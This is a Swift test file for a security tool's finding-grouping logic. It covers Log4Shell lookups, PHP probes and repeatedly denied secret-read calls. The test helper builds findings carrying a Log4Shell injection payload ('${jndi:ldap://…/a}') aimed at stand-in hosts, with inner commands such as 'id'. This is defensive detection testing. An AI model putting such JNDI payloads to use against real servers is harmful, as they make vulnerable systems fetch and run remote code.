import Evidence
import Testing

@testable import Timeline

@Suite("Scanners told as one")
struct ProbeGroupsTests {
  typealias Samples = CaseSamples

  private func lookup(_ number: Int, client: String = "198.51.100.7", host: String, command: String? = nil) -> Finding {
    var finding = Samples.payload(Int64(number), line: number, severity: .medium)
    finding.attributes = []
    finding.attributes.add("payload", "${jndi:ldap://\(host)/a}")
    finding.attributes.add("inner_command", command)
    finding.attributes.add("scheme", "ldap")
    finding.attributes.add("remote_host", host)
    finding.attributes.add("client_ip", client)
    return finding
  }

  private func request(_ number: Int, _ uri: String, status: Int64 = 404, rule: String = "web.injection") -> Finding {
    var finding = Finding(
      rule: rule, title: "", severity: .medium, confidence: .medium, attack: ["T1190"],
      firstSeen: Samples.time(Int64(number)), entities: [Entity(.address, "198.51.100.7"), Entity(.url, uri)],
      evidence: [EvidenceReference(artifact: Samples.artifact("access"), locator: Samples.line(number))],
      message: "198.51.100.7 sent PHP code.")
    finding.attributes.add("client_ip", "198.51.100.7")
    finding.attributes.add("uri", uri)
    finding.attributes.add("status", status)
    return finding
  }

  @Test("One client's lookups to one service are one finding with every place")
  func lookups() throws {
    let all = (1...300).map { lookup($0, host: "c\($0).oast.example") }
    let found = ProbeGroups.gather(all)
    let one = try #require(found.first)
    #expect(found.count == 1 && one.id == all[0].id && one.severity == .medium)
    #expect(one.evidence == all.flatMap(\.evidence))
    #expect(one.firstSeen == Samples.time(1) && one.lastSeen == Samples.time(300))
    #expect(one.message.contains("300 such findings are told as one: 300 times"))
    #expect(one["requests"] == .integer(300))
  }

  @Test("Others' lookups, other commands, grave ones and a few stay by themselves")
  func apart() {
    let few = (1...3).map { lookup($0, host: "a.example") }
    #expect(ProbeGroups.gather(few) == few)
    let clients = (1...8).map { lookup($0, client: "198.51.100.\($0)", host: "a.example") }
    #expect(ProbeGroups.gather(clients) == clients)
    let commands = (1...8).map { lookup($0, host: "192.0.2.1", command: "id \($0)") }
    #expect(ProbeGroups.gather(commands) == commands)
    let grave = (1...8).map { Samples.payload(Int64($0), line: $0) }
    #expect(ProbeGroups.gather(grave) == grave)
  }

  @Test("What was refused everywhere is one, each page that answered its own")
  func requests() {
    let refused = (1...50).map { request($0, "/p\($0).php") }
    let one = ProbeGroups.gather(refused)
    #expect(one.count == 1 && one[0].evidence.count == 50)
    #expect(one[0].message.contains("at 50 pages: /p1.php, /p2.php"))
    let served = (1...50).map { request($0, "/p\($0).php", status: 200) }
    #expect(ProbeGroups.gather(served) == served)
    #expect(ProbeGroups.gather(refused + served).count == 51)
  }

  @Test("A call that one identity is denied again and again is one; what it may do is told each time")
  func denied() {
    func call(_ number: Int, role: String = "web", error: String? = "AccessDenied") -> Finding {
      var finding = request(number, "/", rule: "cloud.secret-denied")
      finding.entities = [Entity(.role, role)]
      finding.attributes = []
      finding.attributes.add("event_name", "GetSecretValue")
      finding.attributes.add("remote_host", "198.51.100.7")
      finding.attributes.add("error_code", error)
      return finding
    }
    #expect(ProbeGroups.gather((1...9).map { call($0) }).map(\.evidence.count) == [9])
    let others = (1...9).map { call($0, role: "r\($0)") }
    #expect(ProbeGroups.gather(others) == others)
    let done = (1...9).map { call($0, error: nil) }
    #expect(ProbeGroups.gather(done) == done)
  }

  @Test("Places are not lost where there are more than one finding holds, and the order is kept")
  func many() {
    let all = (1...9000).map { lookup($0, host: "a.example") } + [request(9001, "/x")]
    let found = ProbeGroups.gather(all)
    #expect(found.count == 4 && found.reduce(0) { $0 + $1.evidence.count } == 9001)
    #expect(found.last?.rule == "web.injection")
  }

  @Test("Lookups that were resolved are told one by one, unless they are a flood; those that came to nothing are not")
  func success() {
    func lookups(_ count: Int, _ events: [(String, Event)]) -> [Int] {
      Samples.story((10..<10 + count).map { Samples.payload(Int64($0), line: $0, severity: .medium) }, events)
        .findings.filter { $0.rule == "log4shell.jndi-lookup" }.map(\.evidence.count)
    }
    let resolved = Samples.processes + [Samples.callback]
    #expect(lookups(20, resolved) == [Int](repeating: 1, count: 20))
    #expect(lookups(100, resolved) == [100])
    #expect(lookups(20, Samples.processes) == [20])
  }
}
